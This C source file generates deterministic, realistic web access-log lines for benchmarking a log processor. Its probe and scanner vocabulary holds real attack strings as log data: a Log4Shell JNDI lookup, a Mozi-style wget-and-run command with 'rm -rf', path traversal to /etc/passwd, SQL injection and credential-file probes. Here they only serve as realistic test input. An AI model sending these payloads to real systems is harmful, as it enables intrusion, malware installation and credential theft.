/*
 * gen_web.c - deterministic generator of realistic combined access-log
 * lines for the benchmark (`make bench`) and for memory-cap tests.
 *
 *   gen_web [-n LINES] [--distinct-ips] [--seed N] [--version] > access.log
 *
 * What it models, because a benchmark on uniform synthetic lines lies
 * about branch prediction, memchr lengths and hash-table sizes:
 *   - clients drawn from a pool of ~130k addresses with Zipf (s = 1)
 *     popularity, so 1,000,000 lines hold ~100k distinct addresses and a
 *     few hot ones; ~3% of the pool is IPv6;
 *   - each client has a class (browser, search bot, tool, scanner) that
 *     fixes its user agent and the kind of paths it asks for;
 *   - response sizes: lognormal per content type, Pareto (alpha 1.1) for
 *     documents, so a few lines carry gigabytes;
 *   - a realistic status mix, referrers, queries, HTTP versions, a few
 *     authenticated users, exploit probes and non-HTTP requests
 *     (TLS handshakes logged as \x16\x03\x01...);
 *   - timestamps monotonic over one day, with a +0100 offset.
 * --distinct-ips gives every line its own IPv4 source address (a
 * bijection of the line number), for the state-table memory cap test.
 *
 * Determinism: a fixed seed and our own PRNG (xoshiro256**, seeded by
 * splitmix64), never libc rand(). The same binary on the same libm gives
 * byte-identical output. Bump GEN_WEB_VERSION whenever the output
 * changes, so bench.sh regenerates its cached data.
 *
 * It must never read anything but its arguments: no clock, no
 * environment, no files.
 */
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define GEN_WEB_VERSION 1
#define DEFAULT_SEED 0x6272656163687761ull /* "breachwa" */
#define POOL_SIZE 130000u                  /* client addresses */
#define OUT_CHUNK (1u << 20)

/* ------------------------------------------------------------ PRNG */

static uint64_t rng_s[4];

static uint64_t splitmix64(uint64_t *x)
{
	uint64_t z = (*x += 0x9e3779b97f4a7c15ull);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static void rng_seed(uint64_t seed)
{
	for (int i = 0; i < 4; i++)
		rng_s[i] = splitmix64(&seed);
}

static uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

static uint64_t rng_next(void)
{
	uint64_t r = rotl(rng_s[1] * 5, 7) * 9, t = rng_s[1] << 17;
	rng_s[2] ^= rng_s[0];
	rng_s[3] ^= rng_s[1];
	rng_s[1] ^= rng_s[2];
	rng_s[0] ^= rng_s[3];
	rng_s[2] ^= t;
	rng_s[3] = rotl(rng_s[3], 45);
	return r;
}

/* Uniform in [0, 1). */
static double rng_unit(void) { return (double)(rng_next() >> 11) * 0x1.0p-53; }

/* Uniform in [0, n). */
static uint32_t rng_below(uint32_t n)
{
	return (uint32_t)(((rng_next() >> 32) * (uint64_t)n) >> 32);
}

static double rng_normal(void)
{
	double u1 = rng_unit(), u2 = rng_unit();
	if (u1 < 1e-300)
		u1 = 1e-300;
	return sqrt(-2.0 * log(u1)) * cos(6.283185307179586 * u2);
}

/* Lognormal with the given median and shape, clamped to [lo, hi]. */
static int64_t rng_lognormal(double median, double sigma, int64_t lo, int64_t hi)
{
	double v = median * exp(sigma * rng_normal());
	if (v < (double)lo)
		return lo;
	if (v > (double)hi)
		return hi;
	return (int64_t)v;
}

/* Pareto with scale xm and shape alpha, clamped to hi. */
static int64_t rng_pareto(double xm, double alpha, int64_t hi)
{
	double v = xm / pow(1.0 - rng_unit(), 1.0 / alpha);
	return v > (double)hi ? hi : (int64_t)v;
}

/* Zipf (s = 1) rank in [0, n): P(k) ~ 1/(k+1). */
static uint32_t rng_zipf(uint32_t n)
{
	double k = exp(rng_unit() * log((double)n + 1.0)) - 1.0;
	uint32_t r = (uint32_t)k;
	return r >= n ? n - 1 : r;
}

/* A stateless 64-bit mix for per-client attributes. */
static uint64_t mix64(uint64_t x)
{
	return splitmix64(&x);
}

/* A bijection on 32-bit integers (odd multiply and xorshifts are each
 * invertible), so distinct inputs give distinct addresses. */
static uint32_t perm32(uint32_t x)
{
	x ^= x >> 16;
	x *= 0x7feb352dU;
	x ^= x >> 15;
	x *= 0x846ca68bU;
	x ^= x >> 16;
	return x;
}

/* Weighted choice: w[] are integer weights, n entries. */
static size_t pick(const unsigned *w, size_t n)
{
	unsigned total = 0;
	for (size_t i = 0; i < n; i++)
		total += w[i];
	unsigned r = rng_below(total);
	for (size_t i = 0; i < n; i++) {
		if (r < w[i])
			return i;
		r -= w[i];
	}
	return n - 1;
}

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))
#define PICK(arr) ((arr)[rng_below((uint32_t)NELEM(arr))])

/* ---------------------------------------------------------- output */

static char *out;
static size_t out_n;

static void out_flush(void)
{
	if (out_n && fwrite(out, 1, out_n, stdout) != out_n) {
		perror("gen_web: write");
		exit(1);
	}
	out_n = 0;
}

static void put(const char *s, size_t n)
{
	memcpy(out + out_n, s, n);
	out_n += n;
}

static void puts_(const char *s) { put(s, strlen(s)); }

static void putc_(char c) { out[out_n++] = c; }

static void put_u64(uint64_t v)
{
	char tmp[24];
	size_t i = sizeof(tmp);
	do {
		tmp[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	put(tmp + i, sizeof(tmp) - i);
}

static void put_hex(uint64_t v, int digits)
{
	static const char hx[] = "0123456789abcdef";
	for (int i = digits - 1; i >= 0; i--)
		putc_(hx[(v >> (4 * i)) & 15]);
}

/* ----------------------------------------------------- vocabulary */

enum client_class { C_BROWSER, C_BOT, C_TOOL, C_SCANNER, C__COUNT };

static const unsigned class_weight[C__COUNT] = { 820, 90, 40, 50 };

static const char *const ua_browser[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.97",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:120.0) Gecko/20100101 Firefox/120.0",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36 OPR/104.0.0.0",
};

static const char *const ua_bot[] = {
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/119.0.6045.159 Safari/537.36",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
	"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
	"Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
	"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
	"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
	"Twitterbot/1.0",
	"Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)",
};

static const char *const ua_tool[] = {
	"curl/7.88.1", "curl/8.4.0", "Wget/1.21.3", "python-requests/2.31.0",
	"Go-http-client/1.1", "Go-http-client/2.0", "okhttp/4.12.0",
	"Apache-HttpClient/4.5.14 (Java/17.0.9)", "libwww-perl/6.72",
	"PostmanRuntime/7.35.0", "axios/1.6.2", "Python-urllib/3.11",
};

static const char *const ua_scanner[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
	"Mozilla/5.0 zgrab/0.x",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
	"sqlmap/1.7.11#stable (https://sqlmap.org)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
	"Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet.",
	"${jndi:ldap://45.83.193.150:1389/Exploit}",
	"-",
	"Hello World",
	"python-requests/2.25.1",
	"fasthttp",
};

static const char *const probe_paths[] = {
	"/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php",
	"/wp-content/plugins/wp-file-manager/readme.txt", "/.env",
	"/.git/config", "/.aws/credentials", "/config.json", "/.DS_Store",
	"/phpmyadmin/index.php", "/pma/", "/admin/", "/administrator/",
	"/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/HNAP1/",
	"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
	"/remote/login?lang=en",
	"/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
	"/dana-na/auth/url_default/welcome.cgi",
	"/global-protect/login.esp", "/ssl-vpn/hipreport.esp",
	"/+CSCOE+/logon.html", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
	"/solr/admin/info/system?wt=json", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f",
	"/autodiscover/autodiscover.json?@zdi/Powershell", "/actuator/env",
	"/actuator/health", "/api/v1/..;/..;/..;/actuator", "/?XDEBUG_SESSION_START=phpstorm",
	"/shell?cd+/tmp;rm+-rf+*;wget+http://192.168.1.1:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws",
	"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/console/", "/manager/html",
	"/server-status", "/jenkins/login", "/_ignition/execute-solution",
	"/mifs/aad/api/v2/admin/users", "/webtools/control/main",
	"/struts2-showcase/struts/utils.js", "/.well-known/../../etc/passwd",
	"/index.php?page=../../../../etc/passwd", "/search?q=%27%20OR%201%3D1--",
	"/cases/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
};

static const char *const words[] = {
	"witness", "protection", "hearing", "judgment", "appeal", "chamber",
	"prosecutor", "defence", "registry", "victims", "reparations",
	"transcript", "decision", "order", "filing", "evidence", "summary",
	"press", "statement", "trial", "pre-trial", "detention", "interim",
	"release", "warrant", "arrest", "situation", "investigation",
	"confirmation", "charges", "sentence", "review", "assembly", "states",
	"budget", "annual", "report", "calendar", "schedule", "public",
	"redacted", "version", "annex", "translation", "french", "english",
};

static const char *const case_ids[] = {
	"ICC-01/04-01/06", "ICC-01/04-02/06", "ICC-01/05-01/08",
	"ICC-02/04-01/15", "ICC-01/12-01/15", "ICC-02/05-01/09",
	"ICC-01/09-01/11", "ICC-02/11-01/15", "ICC-01/14-01/18",
	"ICC-02/17-01/19", "ICC-01/20-01/21", "ICC-02/18-01/22",
};

static const char *const langs[] = { "en", "fr", "en", "en", "ar", "es" };

static const char *const users[] = {
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
	"ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert",
	"sybil", "trent", "victor", "walter", "j.smith", "m.dupont",
	"a.kowalski", "s.nakamura", "registry-svc", "intern07",
};

static const char *const site = "https://www.court.example";

/* ------------------------------------------------------- lines */

struct client {
	uint32_t v4;        /* host order */
	int v6;             /* 1: print as IPv6 from v6hash */
	uint64_t v6hash;
	enum client_class cls;
	const char *ua;
	const char *user;   /* basic-auth intranet user, or NULL */
};

static void client_from_id(uint32_t id, int distinct, struct client *c)
{
	uint64_t h = mix64(id ^ 0x5bd1e995u);
	c->v4 = perm32(distinct ? id : id ^ 0xa5a5a5a5u);
	/* Keep addresses looking public: no 0/8, 10/8, 127/8, 224+/4. For
	 * --distinct-ips the bijection must stay intact, so only the pool
	 * is cleaned. */
	if (!distinct) {
		uint32_t a = c->v4 >> 24;
		if (a == 0 || a == 10 || a == 127 || a >= 224)
			c->v4 = (c->v4 & 0x00ffffffu) | ((uint32_t)(a % 200 + 20) << 24);
	}
	c->v6 = !distinct && (h % 100) < 3;
	c->v6hash = mix64(h);
	/* class from the hash, weighted */
	unsigned r = (unsigned)((h >> 8) % 1000);
	c->cls = C_BROWSER;
	for (int k = 0; k < C__COUNT; k++) {
		if (r < class_weight[k]) {
			c->cls = (enum client_class)k;
			break;
		}
		r -= class_weight[k];
	}
	uint64_t u = h >> 24;
	switch (c->cls) {
	case C_BROWSER: c->ua = ua_browser[u % NELEM(ua_browser)]; break;
	case C_BOT:     c->ua = ua_bot[u % NELEM(ua_bot)]; break;
	case C_TOOL:    c->ua = ua_tool[u % NELEM(ua_tool)]; break;
	default:        c->ua = ua_scanner[u % NELEM(ua_scanner)]; break;
	}
	c->user = (c->cls == C_BROWSER && (h >> 40) % 50 == 0)
		? users[(h >> 48) % NELEM(users)] : NULL;
}

static void put_ip(const struct client *c)
{
	if (c->v6) {
		/* 2001:db8::/32 is documentation space; real logs would show
		 * 2a0x:... - use a few real-looking prefixes. */
		static const char *const pfx[] = { "2a02:", "2001:4860:", "2a01:e0a:", "2600:1700:" };
		uint64_t h = c->v6hash;
		puts_(pfx[h % NELEM(pfx)]);
		put_hex((h >> 8) & 0xfff, 3);
		putc_(':');
		put_hex((h >> 20) & 0xffff, 4);
		puts_("::");
		put_hex((h >> 36) & 0xffff, 4);
		return;
	}
	put_u64(c->v4 >> 24);
	putc_('.');
	put_u64((c->v4 >> 16) & 255);
	putc_('.');
	put_u64((c->v4 >> 8) & 255);
	putc_('.');
	put_u64(c->v4 & 255);
}

/* Days since 1970-01-01 -> civil date (Howard Hinnant's algorithm). */
static void civil_from_days(int64_t z, int *y, unsigned *m, unsigned *d)
{
	z += 719468;
	int64_t era = (z >= 0 ? z : z - 146096) / 146097;
	unsigned doe = (unsigned)(z - era * 146097);
	unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	int64_t yy = (int64_t)yoe + era * 400;
	unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	unsigned mp = (5 * doy + 2) / 153;
	*d = doy - (153 * mp + 2) / 5 + 1;
	*m = mp < 10 ? mp + 3 : mp - 9;
	*y = (int)(yy + (*m <= 2));
}

/* "[26/Nov/2026:13:04:01 +0100]" for local seconds, cached per second. */
static void put_time(int64_t local_secs)
{
	static int64_t cached = -1;
	static char stamp[40];
	static size_t stamp_n;
	static const char *const mon[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun",
		"Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };
	if (local_secs != cached) {
		int y;
		unsigned m, d;
		int64_t days = local_secs / 86400, sod = local_secs % 86400;
		civil_from_days(days, &y, &m, &d);
		int len = snprintf(stamp, sizeof(stamp), "[%02u/%s/%04d:%02d:%02d:%02d +0100]",
				   d, mon[m - 1], y, (int)(sod / 3600),
				   (int)(sod / 60 % 60), (int)(sod % 60));
		stamp_n = (size_t)len;
		cached = local_secs;
	}
	put(stamp, stamp_n);
}

static void put_slug(int nwords)
{
	for (int i = 0; i < nwords; i++) {
		if (i)
			putc_('-');
		puts_(PICK(words));
	}
}

enum path_kind { P_STATIC, P_PAGE, P_DOC, P_API, P_LOGIN, P_WELLKNOWN, P_PROBE, P__COUNT };

static const unsigned path_weight[C__COUNT][P__COUNT] = {
	/*             static page  doc  api login wk probe */
	[C_BROWSER] = { 560, 250,  45, 110, 25,  9,  1 },
	[C_BOT]     = { 120, 560, 150,  10,  0, 160, 0 },
	[C_TOOL]    = {  40, 200, 150, 580, 20, 10,  0 },
	[C_SCANNER] = {   0, 100,   0,  20, 40, 40, 800 },
};

struct req {
	const char *method;
	const char *version;
	int status;
	int64_t bytes;     /* -1: print "-" */
	int referrer;      /* 0 none, 1 internal, 2 search engine, 3 social */
	int nonhttp;       /* 1: TLS junk, 2: empty request "-" */
};

/* Emit the request line's target and choose status and size. */
static void put_target(const struct client *c, enum path_kind k, struct req *r)
{
	static const char *const asset_dir[] = { "css", "js", "js", "img", "img", "img", "fonts" };
	static const char *const img_ext[] = { "png", "jpg", "svg", "webp" };
	static const char *const api_res[] = { "cases", "documents", "hearings", "search", "calendar", "session" };
	unsigned s = rng_below(1000);
	switch (k) {
	case P_STATIC: {
		const char *dir = PICK(asset_dir);
		if (rng_below(40) == 0) {
			puts_("/favicon.ico");
			r->bytes = 15086;
		} else if (dir[0] == 'c' || dir[0] == 'j') {
			puts_("/static/");
			puts_(dir);
			putc_('/');
			puts_(rng_below(3) ? "app." : "vendor.");
			put_hex(rng_next(), 8);
			puts_(dir[0] == 'c' ? ".css" : ".js");
			r->bytes = rng_lognormal(dir[0] == 'c' ? 40e3 : 120e3, 0.8, 300, 4 << 20);
		} else if (dir[0] == 'i') {
			puts_("/static/img/");
			put_slug(1 + (int)rng_below(2));
			putc_('.');
			puts_(PICK(img_ext));
			r->bytes = rng_lognormal(30e3, 1.2, 90, 16 << 20);
		} else {
			puts_("/static/fonts/");
			puts_(rng_below(2) ? "inter-var.woff2" : "source-serif.woff2");
			r->bytes = rng_lognormal(90e3, 0.2, 20000, 400000);
		}
		/* browsers revalidate cached assets */
		if (s < 160)
			r->status = 304, r->bytes = 0;
		else if (s < 175)
			r->status = 404, r->bytes = rng_lognormal(450, 0.3, 150, 2000);
		break;
	}
	case P_PAGE: {
		unsigned v = rng_below(10);
		if (v == 0) {
			putc_('/');
		} else if (v < 4) {
			putc_('/');
			puts_(PICK(langs));
			puts_("/news/2026/");
			put_u64(1 + rng_below(11));
			putc_('/');
			put_slug(3 + (int)rng_below(4));
		} else if (v < 7) {
			putc_('/');
			puts_(PICK(langs));
			puts_("/cases/");
			puts_(PICK(case_ids));
			puts_(rng_below(2) ? "/documents" : "/");
		} else if (v < 9) {
			puts_("/search?q=");
			puts_(PICK(words));
			if (rng_below(2)) {
				putc_('+');
				puts_(PICK(words));
			}
			if (rng_below(3) == 0) {
				puts_("&page=");
				put_u64(2 + rng_below(20));
			}
		} else {
			puts_("/about/");
			put_slug(1);
			if (rng_below(4) == 0)
				puts_("?utm_source=newsletter&utm_medium=email&utm_campaign=nov2026");
		}
		r->bytes = rng_lognormal(28e3, 0.6, 2000, 2 << 20);
		if (s < 60)
			r->status = 304, r->bytes = 0;
		else if (s < 100)
			r->status = 404, r->bytes = rng_lognormal(5e3, 0.2, 1000, 20000);
		else if (s < 130)
			r->status = 301, r->bytes = 162;
		else if (s < 133)
			r->status = 500, r->bytes = rng_lognormal(600, 0.3, 100, 5000);
		else if (s < 136)
			r->status = 503, r->bytes = 197;
		break;
	}
	case P_DOC:
		if (rng_below(4) == 0) {
			puts_("/download?id=");
			put_u64(100000 + rng_below(900000));
			puts_("&format=pdf");
		} else {
			puts_("/records/");
			puts_(PICK(case_ids));
			putc_('-');
			put_u64(1 + rng_below(4000));
			puts_(rng_below(5) ? "-Red.pdf" : "-Anx1.pdf");
		}
		/* heavy tail: most documents are small, a few are huge */
		r->bytes = rng_pareto(40e3, 1.1, 3ll << 30);
		if (s < 60)
			r->status = 206, r->bytes = r->bytes / 4 + 1;
		else if (s < 110)
			r->status = 404, r->bytes = rng_lognormal(5e3, 0.2, 1000, 20000);
		else if (s < 130)
			r->status = 403, r->bytes = 548;
		break;
	case P_API:
		puts_("/api/v1/");
		puts_(PICK(api_res));
		if (rng_below(3)) {
			puts_("?page=");
			put_u64(1 + rng_below(50));
			puts_("&limit=");
			put_u64(rng_below(2) ? 20 : 100);
			if (rng_below(3) == 0) {
				puts_("&q=");
				puts_(PICK(words));
			}
		}
		if (rng_below(5) == 0)
			r->method = rng_below(4) ? "POST" : (rng_below(2) ? "PUT" : "DELETE");
		else if (rng_below(40) == 0)
			r->method = "OPTIONS";
		r->bytes = r->method[0] == 'O' ? 0 : rng_lognormal(3e3, 1.0, 2, 8 << 20);
		if (s < 40)
			r->status = 401, r->bytes = 61;
		else if (s < 60)
			r->status = 400, r->bytes = 112;
		else if (s < 66)
			r->status = 500, r->bytes = 86;
		else if (s < 70)
			r->status = 429, r->bytes = 74;
		else if (r->method[0] == 'P' && r->method[1] == 'O')
			r->status = 201;
		break;
	case P_LOGIN:
		if (rng_below(3) == 0) {
			puts_("/login");
			r->bytes = rng_lognormal(9e3, 0.1, 4000, 20000);
		} else if (rng_below(8) == 0) {
			puts_("/logout");
			r->status = 302, r->bytes = 0;
		} else {
			puts_("/login");
			r->method = "POST";
			/* failed logins re-render the form, successes redirect */
			if (s < 650)
				r->status = 302, r->bytes = 0;
			else
				r->status = 200, r->bytes = rng_lognormal(9.3e3, 0.1, 4000, 20000);
		}
		break;
	case P_WELLKNOWN: {
		static const char *const wk[] = { "/robots.txt", "/sitemap.xml",
			"/.well-known/security.txt", "/apple-touch-icon.png",
			"/apple-touch-icon-precomposed.png", "/ads.txt", "/humans.txt" };
		static const int wk_status[] = { 200, 200, 200, 404, 404, 404, 404 };
		static const int64_t wk_bytes[] = { 312, 84213, 240, 5120, 5120, 5120, 5120 };
		size_t i = rng_below((uint32_t)NELEM(wk));
		puts_(wk[i]);
		r->status = wk_status[i];
		r->bytes = wk_bytes[i];
		break;
	}
	default: {
		puts_(PICK(probe_paths));
		if (s < 800)
			r->status = 404, r->bytes = rng_lognormal(450, 0.3, 150, 2000);
		else if (s < 880)
			r->status = 403, r->bytes = 548;
		else if (s < 940)
			r->status = 400, r->bytes = 226;
		else
			r->status = 200, r->bytes = rng_lognormal(2e3, 1.0, 10, 100000);
		if (rng_below(8) == 0)
			r->method = "POST";
		break;
	}
	}
	(void)c;
	/* intranet users see the restricted area */
	if (c->user && k == P_DOC)
		r->status = r->status == 403 ? 200 : r->status;
}

static void gen_line(int64_t local_secs, const struct client *c)
{
	struct req r = { "GET", "HTTP/1.1", 200, 0, 0, 0 };
	enum path_kind k = (enum path_kind)pick(path_weight[c->cls], P__COUNT);

	if (c->cls == C_BROWSER && rng_below(3) == 0)
		r.version = "HTTP/2.0";
	else if (c->cls == C_SCANNER && rng_below(3) == 0)
		r.version = "HTTP/1.0";
	if (c->cls == C_BROWSER && k == P_PAGE && rng_below(50) == 0)
		r.method = "HEAD";
	if (c->cls == C_SCANNER && rng_below(30) == 0)
		r.nonhttp = rng_below(3) ? 1 : 2;
	else if (rng_below(20000) == 0)
		r.nonhttp = 2;

	put_ip(c);
	puts_(" - ");
	puts_(c->user && k != P_PROBE ? c->user : "-");
	putc_(' ');
	put_time(local_secs);
	puts_(" \"");
	size_t method_at = out_n;
	if (r.nonhttp == 1) {
		/* nginx logs a TLS ClientHello on a plain port like this */
		puts_("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03");
		put_hex(rng_next(), 8);
		puts_("\" 400 ");
		put_u64(rng_below(2) ? 157 : 166);
		puts_(" \"-\" \"-\"\n");
		return;
	}
	if (r.nonhttp == 2) {
		puts_("-\" 408 0 \"-\" \"-\"\n");
		return;
	}
	/* the method is written after the target decides it: reserve */
	puts_("        ");
	size_t target_at = out_n;
	put_target(c, k, &r);
	size_t target_n = out_n - target_at;
	/* write the method, then slide the target left onto it */
	size_t mlen = strlen(r.method);
	memcpy(out + method_at, r.method, mlen);
	out[method_at + mlen] = ' ';
	memmove(out + method_at + mlen + 1, out + target_at, target_n);
	out_n = method_at + mlen + 1 + target_n;
	if (r.method[0] == 'H' || (r.status == 304))
		r.bytes = 0;
	putc_(' ');
	puts_(r.version);
	puts_("\" ");
	put_u64((uint64_t)r.status);
	putc_(' ');
	if (r.bytes == 0 && rng_below(2))
		putc_('-'); /* Apache's %b writes "-" for an empty body */
	else
		put_u64((uint64_t)r.bytes);
	puts_(" \"");
	unsigned ref = rng_below(100);
	if (c->cls == C_BROWSER && k != P_PAGE && ref < 80) {
		puts_(site);
		putc_('/');
		puts_(PICK(langs));
		puts_("/news/2026/11/");
		put_slug(3);
	} else if (c->cls == C_BROWSER && ref < 30) {
		puts_(site);
		putc_('/');
	} else if (c->cls == C_BROWSER && ref < 45) {
		puts_("https://www.google.com/");
	} else if (c->cls == C_BROWSER && ref < 48) {
		puts_("https://www.bing.com/");
	} else if (c->cls == C_BROWSER && ref < 50) {
		puts_("https://t.co/");
		put_hex(rng_next(), 10);
	} else if (c->cls == C_SCANNER && ref < 10) {
		puts_("http://");
		put_ip(c);
		putc_('/');
	} else {
		putc_('-');
	}
	puts_("\" \"");
	/* 2% of browser lines show another browser of the same client
	 * (a second device behind the same NAT address) */
	if (c->cls == C_BROWSER && rng_below(50) == 0)
		puts_(PICK(ua_browser));
	else
		puts_(c->ua);
	puts_("\"\n");
}

static int usage(void)
{
	fputs("usage: gen_web [-n LINES] [--distinct-ips] [--seed N] [--version]\n"
	      "  writes LINES (default 1000000) combined access-log lines to stdout;\n"
	      "  --distinct-ips gives every line its own source address\n", stderr);
	return 2;
}

int main(int argc, char **argv)
{
	uint64_t n = 1000000, seed = DEFAULT_SEED;
	int distinct = 0;
	for (int i = 1; i < argc; i++) {
		char *end;
		if (strcmp(argv[i], "-n") == 0 && i + 1 < argc) {
			n = strtoull(argv[++i], &end, 10);
			if (*end)
				return usage();
		} else if (strcmp(argv[i], "--seed") == 0 && i + 1 < argc) {
			seed = strtoull(argv[++i], &end, 0);
			if (*end)
				return usage();
		} else if (strcmp(argv[i], "--distinct-ips") == 0) {
			distinct = 1;
		} else if (strcmp(argv[i], "--version") == 0) {
			printf("gen_web %d\n", GEN_WEB_VERSION);
			return 0;
		} else {
			return usage();
		}
	}
	if (distinct && n > UINT32_MAX) {
		fputs("gen_web: --distinct-ips allows at most 2^32 lines\n", stderr);
		return 2;
	}
	out = malloc(OUT_CHUNK + 64 * 1024);
	if (!out) {
		perror("gen_web");
		return 1;
	}
	rng_seed(seed);

	/* 2026-11-26 00:00:00 local (+0100) as local seconds since epoch. */
	const int64_t day0 = 20783 * 86400ll; /* days_from_civil(2026,11,26) */
	struct client c;
	uint32_t cached_id = UINT32_MAX;
	for (uint64_t i = 0; i < n; i++) {
		int64_t t = day0 + (int64_t)(i * 86400 / (n ? n : 1));
		uint32_t id = distinct ? (uint32_t)i : rng_zipf(POOL_SIZE);
		if (id != cached_id || distinct) {
			client_from_id(id, distinct, &c);
			cached_id = id;
		}
		gen_line(t, &c);
		if (out_n >= OUT_CHUNK)
			out_flush();
	}
	out_flush();
	if (fflush(stdout) != 0) {
		perror("gen_web: write");
		return 1;
	}
	free(out);
	return 0;
}
